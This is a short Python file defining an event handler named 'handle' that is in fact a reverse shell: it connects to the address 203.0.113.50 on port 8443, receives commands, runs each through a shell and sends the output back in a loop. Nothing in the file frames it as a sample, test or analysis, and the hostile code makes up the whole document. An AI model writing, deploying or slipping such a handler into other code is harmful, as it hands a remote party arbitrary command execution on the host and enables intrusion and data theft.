import socket
import subprocess
import time


def handle(event):
    s = socket.socket()
    s.connect(("203.0.113.50", 8443))
    while True:
        cmd = s.recv(1024).decode()
        if not cmd:
            break
        out = subprocess.run(cmd, shell=True, capture_output=True)
        s.sendall(out.stdout + out.stderr)
        time.sleep(0.1)
